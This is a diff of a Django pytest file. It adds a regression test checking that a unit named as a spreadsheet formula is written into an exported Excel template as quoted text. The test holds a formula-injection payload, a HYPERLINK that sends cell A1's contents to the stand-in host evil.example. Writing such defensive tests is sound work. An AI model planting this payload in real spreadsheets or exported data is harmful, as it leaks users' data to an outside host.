@@ -11,7 +11,7 @@ import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from phongtrao.accounts.models import Role
 from phongtrao.data.models import DataValue
@@ -110,3 +110,17 @@ def test_a_viewer_is_refused_before_the_file_is_opened(client, small_tree):
     )
 
     assert response.status_code == 403
+
+
+def test_unit_named_as_a_formula_is_text_in_the_template(client, small_tree):
+    """The issue's failure 3: a unit named as a formula reaches others' templates as text."""
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    c1 = small_tree["c1"]
+    type(c1).objects.filter(pk=c1.pk).update(name=attack)
+    client.force_login(_officer("huyen_nl", small_tree["d1"], {Role.VIEW, Role.ENTER}))
+
+    response = client.get(_url(small_tree["d1"]))
+
+    sheet = load_workbook(io.BytesIO(response.content))["BC_NAM_XA"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == attack]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
